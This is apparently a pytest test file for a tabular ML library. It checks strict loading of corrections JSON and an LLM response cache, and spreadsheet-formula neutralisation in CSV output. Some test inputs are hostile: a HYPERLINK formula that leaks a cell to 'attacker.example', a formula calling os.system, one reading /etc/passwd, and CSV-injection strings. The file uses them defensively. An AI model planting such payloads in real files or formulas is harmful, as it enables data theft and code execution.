"""State read back from disk is data, checked field by field: corrections JSON, the LLM cache.

Also: CSV outputs holding model or LLM text never carry a live spreadsheet formula.
"""

import csv
import json
import re
import sqlite3
import warnings

import numpy as np
import pandas as pd
import pytest
from sklearn.linear_model import LinearRegression, LogisticRegression
from threadpoolctl import threadpool_limits

from tabsift.cli import main
from tabsift.datasets import make_boolean_rule, make_missing_interaction
from tabsift.expr import ExpressionError
from tabsift.llm import CacheMissError, LLMClient, LLMError, LLMFallbackWarning, ResponseCache
from tabsift.llm.testing import LocalLLMServer
from tabsift.residual import FrozenCorrections, ResidualAgentRegressor
from tabsift.residual._format import CorrectionsFormatError
from tabsift.utils import neutralise_formulas
from tabsift.utils._csv import neutralise_cell


@pytest.fixture(autouse=True, scope="module")
def _one_blas_thread():
    with threadpool_limits(limits=1):
        yield


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch):
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)


# ======================================================================= corrections JSON
def _regression_doc():
    return {
        "format": "tabsift.residual.corrections",
        "version": 1,
        "task": "regression",
        "feature_names": ["x0", "x1", "city"],
        "classes": None,
        "intercept": 0.5,
        "blend_weight": 1.0,
        "corrections": [
            {"expression": "x0 ** 2", "coefficient": 2.0, "source": "offline"},
            {"expression": "x0 * x1", "coefficient": -1.0, "explanation": "interaction"},
        ],
        "table": {
            "base_input": "one_hot",
            "columns": [
                {"name": "x0", "kind": "number"},
                {"name": "x1", "kind": "number"},
                {
                    "name": "city",
                    "kind": "category",
                    "categories": ["Oslo", "Rome"],
                    "other": False,
                    "missing": False,
                },
            ],
        },
    }


def _classification_doc():
    return {
        "format": "tabsift.residual.corrections",
        "version": 1,
        "task": "classification",
        "feature_names": ["x0", "x1"],
        "classes": [0, 1],
        "intercept": [0.0, 0.1],
        "blend_weight": 0.5,
        "corrections": [
            {"expression": "x0 * x1", "coefficient": 0.3, "target_class": 1},
            {"expression": "x0 ** 2", "coefficient": 0.2, "target_class": 0},
            {"expression": "x1", "coefficient": 0.1, "target_class": 1},
        ],
    }


@pytest.fixture(scope="module")
def bases():
    rng = np.random.default_rng(0)
    X = rng.normal(size=(40, 2))
    reg = LinearRegression().fit(np.column_stack([X, np.eye(2)[rng.integers(0, 2, 40)]]), X[:, 0])
    clf = LogisticRegression().fit(X, (X[:, 0] > 0).astype(int))
    return reg, clf


def test_good_documents_load_and_predict(bases, tmp_path):
    reg, clf = bases
    path = tmp_path / "reg.json"
    path.write_text(json.dumps(_regression_doc()))
    frozen = FrozenCorrections(reg, path)
    new = pd.DataFrame({"x0": [1.0, 2.0], "x1": [0.5, 0.0], "city": ["Oslo", "Rome"]})
    base = reg.predict(np.array([[1.0, 0.5, 1.0, 0.0], [2.0, 0.0, 0.0, 1.0]]))
    np.testing.assert_allclose(frozen.predict(new), base + 0.5 + [2.0 - 0.5, 8.0])
    proba = FrozenCorrections(clf, _classification_doc()).predict_proba(np.ones((3, 2)))
    np.testing.assert_allclose(proba.sum(axis=1), 1.0)


def _load(base, corrections):
    """Read ``corrections`` the way a user does: ``fit`` reads them (construction does not)."""
    new = pd.DataFrame({"x0": [1.0], "x1": [0.5], "city": ["Oslo"]})
    return FrozenCorrections(base, corrections).fit(new)


def _set(path, value):
    """A mutation setting ``doc[path...] = value`` (``...`` deletes the key)."""

    def mutate(doc):
        *parents, last = path
        target = doc
        for key in parents:
            target = target[key]
        if value is ...:
            del target[last]
        else:
            target[last] = value
        return doc

    return mutate


_REGRESSION_CASES = {
    "missing feature_names": (_set(["feature_names"], ...), "feature_names", "is missing"),
    "feature_names a string": (_set(["feature_names"], "x0"), "feature_names", "must be a list"),
    "feature name not a string": (_set(["feature_names", 1], 3), r"feature_names\[1\]", "string"),
    "repeated feature name": (_set(["feature_names", 1], "x0"), r"feature_names\[1\]", "repeats"),
    "nan coefficient": (
        _set(["corrections", 1, "coefficient"], float("nan")),
        r"corrections\[1\]\.coefficient",
        "finite",
    ),
    "inf coefficient": (
        _set(["corrections", 1, "coefficient"], float("inf")),
        r"corrections\[1\]\.coefficient",
        "finite",
    ),
    "text coefficient": (
        _set(["corrections", 0, "coefficient"], "2.0"),
        r"corrections\[0\]\.coefficient",
        "must be a number",
    ),
    "bool coefficient": (
        _set(["corrections", 0, "coefficient"], True),
        r"corrections\[0\]\.coefficient",
        "must be a number",
    ),
    "missing coefficient": (
        _set(["corrections", 0, "coefficient"], ...),
        r"corrections\[0\]\.coefficient",
        "is missing",
    ),
    "misspelt key": (
        _set(["corrections", 0, "coeficient"], 1.0),
        r"corrections\[0\]\.coeficient",
        "not a known key",
    ),
    "wrong version": (_set(["version"], 2), "version", "reads version 1 only"),
    "version true": (_set(["version"], True), "version", "must be the integer 1"),
    "version text": (_set(["version"], "1"), "version", "must be the integer 1"),
    "other format": (_set(["format"], "other"), "format", "must be 'tabsift.residual"),
    "unknown task": (_set(["task"], "ranking"), "task", "must be one of"),
    "formula does not parse": (
        _set(["corrections", 1, "expression"], "x0 +* 2"),
        r"corrections\[1\]\.expression",
        "not a valid formula",
    ),
    "formula runs code": (
        _set(["corrections", 0, "expression"], "__import__('os').system('x')"),
        r"corrections\[0\]\.expression",
        "not a valid formula",
    ),
    "unknown column": (
        _set(["corrections", 1, "expression"], "zz * 2"),
        r"corrections\[1\]\.expression",
        "not among the feature names",
    ),
    "formula reads a category": (
        _set(["corrections", 1, "expression"], "city * 2"),
        r"corrections\[1\]\.expression",
        "category column",
    ),
    "tree does not match": (
        _set(["corrections", 0, "tree"], {"format": "tabsift.expr", "version": 1, "text": "x1"}),
        r"corrections\[0\]\.tree",
        "does not match",
    ),
    "tree with a huge number": (
        _set(
            ["corrections", 0, "tree"],
            {"format": "tabsift.expr", "version": 1, "root": {"type": "Number", "value": 10**400}},
        ),
        r"corrections\[0\]\.tree",
        "not a valid formula tree",
    ),
    "target class in regression": (
        _set(["corrections", 0, "target_class"], 0),
        r"corrections\[0\]\.target_class",
        "must be null",
    ),
    "unknown source": (
        _set(["corrections", 0, "source"], "magic"),
        r"corrections\[0\]\.source",
        "must be one of",
    ),
    "blend weight out of range": (_set(["blend_weight"], 1.5), "blend_weight", r"\[0.0, 1.0\]"),
    "intercept a list": (_set(["intercept"], [0.5]), "intercept", "must be a number"),
    "corrections not a list": (_set(["corrections"], {"a": 1}), "corrections", "must be a list"),
    "correction not an object": (
        _set(["corrections", 0], "x0 ** 2"),
        r"corrections\[0\]",
        "must be a JSON object",
    ),
    "table base input": (_set(["table", "base_input"], "pickle"), "table.base_input", "one of"),
    "table column renamed": (
        _set(["table", "columns", 1, "name"], "x9"),
        r"table\.columns\[1\]\.name",
        "must be the feature name 'x1'",
    ),
    "table flag not a bool": (
        _set(["table", "columns", 2, "other"], "false"),
        r"table\.columns\[2\]\.other",
        "true or false",
    ),
    "table array with categories": (
        _set(["table", "base_input"], "array"),
        "table.base_input",
        "does not fit",
    ),
    "unknown top-level key": (_set(["code"], "import os"), "code", "not a known key"),
}


@pytest.mark.parametrize("case", list(_REGRESSION_CASES))
def test_bad_regression_document_names_the_file_and_the_field(case, bases, tmp_path):
    mutate, field, problem = _REGRESSION_CASES[case]
    path = tmp_path / "corrections.json"
    path.write_text(json.dumps(mutate(_regression_doc())))
    with pytest.raises(
        CorrectionsFormatError, match=f"'{path}' cannot be loaded: {field} "
    ) as info:
        _load(bases[0], path)
    message = str(info.value)
    assert re.search(problem, message), message
    assert "export_corrections(path)" in message and "--force" in message
    assert info.value.field == field.replace("\\", "")


_CLASSIFICATION_CASES = {
    "fractional target class": (
        _set(["corrections", 2, "target_class"], 1.9),
        r"corrections\[2\]\.target_class",
        "whole number",
    ),
    "target class out of range": (
        _set(["corrections", 2, "target_class"], 2),
        r"corrections\[2\]\.target_class",
        r"0\.\.1",
    ),
    "target class true": (
        _set(["corrections", 0, "target_class"], True),
        r"corrections\[0\]\.target_class",
        "whole number",
    ),
    "target class missing": (
        _set(["corrections", 0, "target_class"], ...),
        r"corrections\[0\]\.target_class",
        "is missing",
    ),
    "one class": (_set(["classes"], [0]), "classes", "at least 2"),
    "mixed class types": (_set(["classes"], [0, "1"]), "classes", "mixes strings and numbers"),
    "repeated class": (_set(["classes"], [1, 1]), r"classes\[1\]", "repeats"),
    "class an object": (_set(["classes", 0], {"a": 1}), r"classes\[0\]", "string or a number"),
    "intercept too short": (_set(["intercept"], [0.0]), "intercept", "one value per class"),
    "intercept not finite": (
        _set(["intercept", 1], float("-inf")),
        r"intercept\[1\]",
        "finite",
    ),
}


@pytest.mark.parametrize("case", list(_CLASSIFICATION_CASES))
def test_bad_classification_document_names_the_field(case, bases):
    mutate, field, problem = _CLASSIFICATION_CASES[case]
    with pytest.raises(
        CorrectionsFormatError, match=f"corrections dict cannot be loaded: {field} "
    ):
        _load(bases[1], mutate(_classification_doc()))
    with pytest.raises(CorrectionsFormatError, match=problem):
        _load(bases[1], mutate(_classification_doc()))


_RAW_CASES = {
    # A 4,000-digit coefficient: OverflowError before; one over Python's 4,300-digit
    # limit for int parsing fails as JSON.
    "4000-digit coefficient": (
        lambda text: text.replace('"coefficient": 2.0', '"coefficient": 1' + "0" * 4000),
        r"corrections\[0\]\.coefficient must be a finite number, found an integer with about",
    ),
    "5000-digit coefficient": (
        lambda text: text.replace('"coefficient": 2.0', '"coefficient": 1' + "0" * 5000),
        "not valid JSON",
    ),
    "1e400 coefficient": (
        lambda text: text.replace('"coefficient": 2.0', '"coefficient": 1e400'),
        r"corrections\[0\]\.coefficient must be a finite number, found inf",
    ),
    "NaN coefficient": (
        lambda text: text.replace('"coefficient": 2.0', '"coefficient": NaN'),
        r"corrections\[0\]\.coefficient must be a finite number, found nan",
    ),
    "truncated": (lambda text: text[: len(text) // 2], r"not valid JSON \(.*line \d+, column"),
    "empty": (lambda text: "", "not valid JSON"),
    "top level list": (lambda text: f"[{text}]", "must be a JSON object, found a list"),
    "top level number": (lambda text: "3", "must be a JSON object, found 3"),
    "deeply nested": (lambda text: "[" * 200_000 + "]" * 200_000, "not valid JSON"),
}


@pytest.mark.parametrize("case", list(_RAW_CASES))
def test_damaged_file_names_the_file(case, bases, tmp_path):
    damage, message = _RAW_CASES[case]
    path = tmp_path / "corrections.json"
    path.write_text(damage(json.dumps(_regression_doc())))
    with pytest.raises(CorrectionsFormatError, match=message) as info:
        _load(bases[0], path)
    assert str(path) in str(info.value) and "--force" in str(info.value)


def test_invalid_utf8_and_missing_file(bases, tmp_path):
    path = tmp_path / "corrections.json"
    path.write_bytes(json.dumps(_regression_doc()).encode()[:40] + b"\xff\xfe" + b"}")
    with pytest.raises(CorrectionsFormatError, match=f"'{path}' cannot be loaded: it is not UTF-8"):
        _load(bases[0], path)
    with pytest.raises(FileNotFoundError, match="does not exist"):
        _load(bases[0], tmp_path / "nowhere.json")
    with pytest.raises(CorrectionsFormatError, match="cannot be read"):
        _load(bases[0], tmp_path)  # a folder


def test_formula_error_keeps_the_parser_error_as_cause(bases):
    doc = _set(["corrections", 0, "expression"], "open('/etc/passwd')")(_regression_doc())
    with pytest.raises(CorrectionsFormatError) as info:
        _load(bases[0], doc)
    assert isinstance(info.value.__cause__, ExpressionError)
    assert "^" in str(info.value)  # the caret under the bad spot


# ======================================================================= LLM response cache
def _record(tmp_path, text="recorded"):
    """A cache holding one real reply; returns (path, key, prompt)."""
    path = tmp_path / "llm.sqlite"
    with LocalLLMServer(lambda request: text) as server:
        server.client(cache=path, temperature=0.0).chat("prompt", logprobs=True)
    with sqlite3.connect(path) as conn:
        (key,) = conn.execute("SELECT key FROM responses").fetchone()
    return path, key


def _damage(path, value):
    conn = sqlite3.connect(path)
    with conn:
        conn.execute("UPDATE responses SET response = ?", (value,))
    conn.close()


def _good_payload(path):
    with sqlite3.connect(path) as conn:
        return json.loads(conn.execute("SELECT response FROM responses").fetchone()[0])


def _payload_edit(edit):
    def damage(payload):
        edit(payload)
        return json.dumps(payload)

    return damage


_ROW_DAMAGE = {
    "not json": lambda p: "{not json",
    "truncated json": lambda p: json.dumps(p)[:30],
    "a list": lambda p: "[]",
    "NaN constant": lambda p: json.dumps(p).replace('"total_tokens":', '"total_tokens":NaN,"x":'),
    "no choices": _payload_edit(lambda p: p.update(choices=[])),
    "choices missing": _payload_edit(lambda p: p.pop("choices")),
    "usage missing": _payload_edit(lambda p: p.pop("usage")),
    "text missing": _payload_edit(lambda p: p["choices"][0].pop("text")),
    "text a number": _payload_edit(lambda p: p["choices"][0].update(text=3)),
    "finish reason a list": _payload_edit(lambda p: p["choices"][0].update(finish_reason=[1])),
    "logprobs short entry": _payload_edit(lambda p: p["choices"][0]["logprobs"][0].pop()),
    "logprobs not a list": _payload_edit(lambda p: p["choices"][0].update(logprobs="x")),
    "huge logprob": _payload_edit(lambda p: p["choices"][0]["logprobs"][0].__setitem__(1, 10**400)),
    "usage extra key": _payload_edit(lambda p: p["usage"].update(cost=3)),
    "usage negative": _payload_edit(lambda p: p["usage"].update(total_tokens=-1)),
    "usage a float": _payload_edit(lambda p: p["usage"].update(total_tokens=1.5)),
    "model a number": _payload_edit(lambda p: p.update(model=7)),
    "deeply nested": lambda p: "[" * 100_000 + "]" * 100_000,
    "a blob, not text": lambda p: b"\xff\xfe\x00",
    "an integer": lambda p: 42,
}


@pytest.mark.parametrize("case", list(_ROW_DAMAGE))
def test_damaged_row_is_a_miss_with_a_warning_and_is_replaced(case, tmp_path):
    path, key = _record(tmp_path)
    _damage(path, _ROW_DAMAGE[case](_good_payload(path)))
    with LocalLLMServer(lambda request: "fresh") as server:
        client = server.client(cache=path, temperature=0.0)
        with pytest.warns(RuntimeWarning, match=f"{path}.*damaged row \\(key {key[:16]}"):
            reply = client.chat("prompt", logprobs=True)
        assert reply.text == "fresh" and not reply.cached and len(server.requests) == 1
        # The fresh reply replaced the damaged row: the next call is a clean hit.
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            again = client.chat("prompt", logprobs=True)
        assert again.cached and again.text == "fresh" and len(server.requests) == 1


def test_damaged_row_in_replay_mode_is_a_clear_cache_miss(tmp_path):
    path, key = _record(tmp_path)
    _damage(path, json.dumps({"choices": [], "usage": {}}))
    with LocalLLMServer(lambda request: "fresh") as server:
        client = server.client(cache=path, cache_mode="replay", temperature=0.0)
        # replay has no fresh reply to put in its place: the error names the file and the row
        with pytest.raises(CacheMissError, match=f"{path}.*damaged row"):
            client.chat("prompt", logprobs=True)
        assert server.requests == []
    cache = ResponseCache(path)
    with pytest.raises(CacheMissError, match=f"{path}.*damaged row.*choices") as info:
        cache.get(key, damaged="raise")
    assert info.value.key == key
    with pytest.raises(ValueError, match="damaged must be"):
        cache.get(key, damaged="ignore")


def test_damaged_cache_never_breaks_a_fit_with_a_raw_error(tmp_path):
    X = make_missing_interaction(n_samples=200, random_state=0).data
    y = X["x3"].to_numpy() ** 2
    reply = json.dumps({"explanation": "square", "formula": "x3 ** 2"})
    hypothesis = json.dumps({"pattern": "p", "features": ["x3"], "functional_form": "square"})

    def agents(request):
        return hypothesis if "Find ONE" in request["messages"][-1]["content"] else reply

    path = tmp_path / "llm.sqlite"
    params = {"n_corrections": 1, "n_rounds": 1, "cv": 3, "n_jobs": 1, "random_state": 0}
    with LocalLLMServer(agents) as server:
        first = ResidualAgentRegressor(
            LinearRegression(), llm=server.client(cache=path), **params
        ).fit(X, y)
        _damage(path, json.dumps({"choices": [{"text": 1}], "usage": {}}))
        with pytest.warns(RuntimeWarning, match="damaged row"):
            again = ResidualAgentRegressor(
                LinearRegression(), llm=server.client(cache=path), **params
            ).fit(X, y)
    assert [c.expression for c in again.corrections_] == [c.expression for c in first.corrections_]
    _damage(path, "[")
    replay = ResidualAgentRegressor(
        LinearRegression(),
        llm=LLMClient(
            "tabsift-test", base_url="http://127.0.0.1:9/v1", cache=path, cache_mode="replay"
        ),
        **params,
    )
    # The failure policy: in fallback mode the offline proposer finishes, with one warning
    # whose report names the damaged row; on_llm_error="raise" stops with the cache's error.
    with pytest.warns(LLMFallbackWarning):
        replay.fit(X, y)
    assert replay.llm_report_.failed
    assert any("damaged row" in message for message in replay.llm_report_.errors)
    with pytest.raises(CacheMissError, match="damaged row"):
        replay.set_params(on_llm_error="raise").fit(X, y)


def test_file_that_is_not_a_cache_is_refused_and_left_alone(tmp_path):
    not_sqlite = tmp_path / "notes.sqlite"
    not_sqlite.write_bytes(b"my notes, not a database\n" * 10)
    foreign = tmp_path / "app.sqlite"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE users (name TEXT)")
        conn.execute("INSERT INTO users VALUES ('ada')")
    conn.close()
    other_schema = tmp_path / "other.sqlite"
    with sqlite3.connect(other_schema) as conn:
        conn.execute("CREATE TABLE responses (key TEXT, blob BLOB)")
    conn.close()
    for path, reason in (
        (not_sqlite, "the file is not an SQLite database"),
        (foreign, r"it holds other tables \(users\)"),
        (other_schema, "its 'responses' table has the columns"),
    ):
        before = path.read_bytes()
        with LocalLLMServer(lambda request: "x") as server:
            client = server.client(cache=path)
            with pytest.raises(LLMError, match=f"{path}.*not a tabsift response cache: {reason}"):
                client.chat("prompt")
            assert server.requests == []
        assert path.read_bytes() == before
        assert not path.with_name(path.name + "-wal").exists()


def test_damaged_database_pages_give_a_clear_error(tmp_path):
    path, _ = _record(tmp_path)
    ResponseCache(path).close()
    data = bytearray(path.read_bytes())
    data[100:] = b"\x00" * (len(data) - 100)  # keep the header, wipe the schema page
    path.write_bytes(bytes(data))
    cache = ResponseCache(path)
    with pytest.raises(LLMError, match=f"{path}.*not a tabsift response cache") as info:
        len(cache)
    assert not isinstance(info.value, (IndexError, KeyError, sqlite3.Error))


def test_put_refuses_what_get_could_not_read(tmp_path):
    cache = ResponseCache(tmp_path / "c.sqlite")
    with pytest.raises(ValueError, match=r"not a chat reply.*\$\.choices"):
        cache.put("k", {}, {"choices": "text", "usage": {}})
    assert len(cache) == 0


# ======================================================================= CSV outputs
def test_neutralise_formulas_quotes_text_cells_only():
    frame = pd.DataFrame(
        {
            "text": ["=1+2", "+A1", "-x1 * x2", "@SUM(A1)", "\tcmd", "\rcmd", "ok", None],
            "numbers": [-0.5, 1.0, -2.0, 3.0, 4.0, 5.0, 6.0, np.nan],
            "numeric text": ["-0.5", "+3", "1e-4", "-.5", "-1e+3", "-", "--1", "-1-1"],
            "ints": [-1, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    frame["strings"] = pd.array(["=a", "b", None, "-c", "d", "e", "f", "g"], dtype="string")
    frame["category"] = pd.Categorical(["=a", "b", "b", "@c", "d", "e", "f", "g"])
    original = frame.copy()
    safe = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, original)  # the input is not changed
    assert safe["text"].tolist()[:7] == [
        "'=1+2",
        "'+A1",
        "'-x1 * x2",
        "'@SUM(A1)",
        "'\tcmd",
        "'\rcmd",
        "ok",
    ]
    assert pd.isna(safe["text"].iloc[7])
    pd.testing.assert_series_equal(safe["numbers"], frame["numbers"])
    pd.testing.assert_series_equal(safe["ints"], frame["ints"])
    assert safe["numeric text"].tolist() == [
        "-0.5",
        "+3",
        "1e-4",
        "-.5",
        "-1e+3",
        "'-",
        "'--1",
        "'-1-1",
    ]
    assert safe["strings"].dtype == frame["strings"].dtype
    assert safe["strings"].tolist()[:4] == ["'=a", "b", pd.NA, "'-c"]
    assert safe["category"].tolist()[:4] == ["'=a", "b", "b", "'@c"]
    assert list(safe.columns) == list(frame.columns)


def test_neutralise_formulas_keeps_repeated_column_names_and_cells():
    frame = pd.DataFrame([["=x", 1.0, "@y"]], columns=["a", "b", "a"])
    safe = neutralise_formulas(frame)
    assert list(safe.columns) == ["a", "b", "a"] and safe.iloc[0].tolist() == ["'=x", 1.0, "'@y"]
    assert neutralise_cell(-3) == -3 and neutralise_cell(b"=x") == b"=x"


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    return rows[0], [cell for row in rows[1:] for cell in row]


def _assert_no_live_formula(cells):
    live = [
        c
        for c in cells
        if c.startswith(("=", "+", "-", "@", "\t", "\r"))
        and neutralise_cell(c) != c  # a plain number such as -0.5 is fine
    ]
    assert live == []


HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def test_trace_csv_neutralises_an_llm_explanation(tmp_path, capsys):
    bunch = make_missing_interaction(n_samples=200, random_state=0)
    path = tmp_path / "data.csv"
    bunch.frame.to_csv(path, index=False)
    hypothesis = {"pattern": "@SUM(1+1)*cmd", "features": ["x3"], "functional_form": "square"}

    def agents(request):
        if "Find ONE" in request["messages"][-1]["content"]:
            return json.dumps(hypothesis)
        return json.dumps({"explanation": HYPERLINK, "formula": "x3 ** 2"})

    out = tmp_path / "out"
    with LocalLLMServer(agents) as server:
        args = ["correct-residuals", str(path), "--target", "target", "--out", str(out)]
        args += ["--base", "linear", "--rounds", "1", "--cv", "3", "--corrections", "1"]
        args += ["--llm-model", server.model, "--llm-base-url", server.base_url]
        assert main(args) == 0, capsys.readouterr().err
        assert server.requests
    header, cells = _csv_cells(out / "trace.csv")
    assert "'" + HYPERLINK in cells
    _assert_no_live_formula(cells)
    trace = pd.read_csv(out / "trace.csv")
    assert pd.api.types.is_float_dtype(trace["validation_loss"])  # numbers stay numbers
    # The corrections keep the explanation as data (JSON is not a spreadsheet).
    saved = json.loads((out / "corrections.json").read_text())
    assert saved["corrections"][0]["explanation"] == HYPERLINK


def test_fit_rules_explanation_csv_neutralises_rule_text(tmp_path, capsys):
    bunch = make_boolean_rule(n_samples=200, flip_y=0.0, random_state=0)
    frame = bunch.data.rename(columns={bunch.feature_names[0]: "@risk"}).assign(label=bunch.target)
    path = tmp_path / "data.csv"
    frame.to_csv(path, index=False)
    thresholds = tmp_path / "thresholds.json"
    thresholds.write_text(json.dumps({"@risk": [0.0]}))
    out = tmp_path / "out"
    args = ["fit-rules", str(path), "--target", "label", "--out", str(out)]
    args += ["--iterations", "50", "--starts", "1", "--seed", "0", "--operators", "And", "Or"]
    args += ["--thresholds", str(thresholds)]
    assert main(args) == 0, capsys.readouterr().err
    header, cells = _csv_cells(out / "explanation.csv")
    _assert_no_live_formula(cells)
    explanation = pd.read_csv(out / "explanation.csv")
    assert (explanation["label"] == explanation["prediction"]).mean() > 0.5


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"x0": [NaN]}', "is not valid JSON"),
        (b'{"x0": [1e400]}', r"'x0'\[0\] = Infinity, not a finite number"),
        (b'{"x0": [true]}', r"'x0'\[0\] = true, not a finite number"),
        (b'{"x0": "1"}', "gives column 'x0' a JSON str"),
        (b'{"x0": []}', "gives column 'x0' an empty list"),
        (b"[1, 2]", "holds a JSON list, not an object"),
        (b'{"x0": [1', "is not valid JSON"),
        (b"\xff\xfe", "is not UTF-8 text"),
    ],
)
def test_fit_rules_thresholds_file_is_read_strictly(content, message, tmp_path, capsys):
    data = tmp_path / "data.csv"
    pd.DataFrame({"x0": [0.0, 1.0, 2.0, 3.0], "label": [0, 0, 1, 1]}).to_csv(data, index=False)
    thresholds = tmp_path / "thresholds.json"
    thresholds.write_bytes(content)
    args = ["fit-rules", str(data), "--target", "label", "--out", str(tmp_path / "out")]
    assert main([*args, "--thresholds", str(thresholds)]) == 2
    assert not (tmp_path / "out").exists()
    err = capsys.readouterr().err
    assert f"thresholds file '{thresholds}'" in err
    assert re.search(message, err), err


# ------------------------------------------------------------------ exported rules
@pytest.mark.parametrize(
    ("node", "message"),
    [
        ({"constant": "false"}, r"rule.constant must be true/false; found str 'false'"),
        ({"constant": True, "extra": 1}, r"a constant has only the field 'constant'"),
        ({"literal": "a > 1", "index": 1.9}, r"rule.index must be an integer; found float 1.9"),
        ({"literal": "a > 1", "index": "2"}, r"rule.index must be an integer; found str '2'"),
        ({"literal": "a > 1", "index": True}, r"rule.index must be an integer; found True"),
        ({"literal": "a > 1", "index": -3}, r"rule.index must be >= 0; found -3"),
        ({"literal": {"x": 1}, "index": 0}, r"rule.literal must be a string; found dict"),
        ({"literal": "a", "index": 0, "test": "<="}, r"rule.test must be '>', '==' or 'is'"),
        ({"literal": "a", "index": 0, "value": float("nan")}, r"rule.value must be finite"),
        ({"literal": "a", "index": 0, "code": "x"}, r"unknown field\(s\) \['code'\]"),
        ({"operator": "And", "children": "ab"}, r"rule.children must be a list"),
        (
            {"operator": "AtLeast", "k": 1.5, "children": [{"literal": "a", "index": 0}]},
            r"rule.k must be an integer or null; found float 1.5",
        ),
        (
            {"operator": "And", "children": [{"literal": "a", "index": "0"}]},
            r"rule.children\[0\].index must be an integer",
        ),
        ("And(a, b)", r"rule must be a dict; found str"),
    ],
)
def test_a_rule_dict_is_read_strictly_naming_the_field(node, message):
    from tabsift.rules import Rule

    with pytest.raises(ValueError, match=message):
        Rule.from_dict(node)


def test_a_rule_survives_its_own_round_trip_through_json():
    from tabsift.rules import Literal, Operator, Rule

    rule = Rule(
        Operator(
            "AtLeast",
            [Literal(0, "a > 1", column="a", test=">", value=1.0), Literal(1, "b == x")],
            k=1,
            negated=True,
        )
    )
    assert Rule.from_dict(json.loads(json.dumps(rule.to_dict()))) == rule
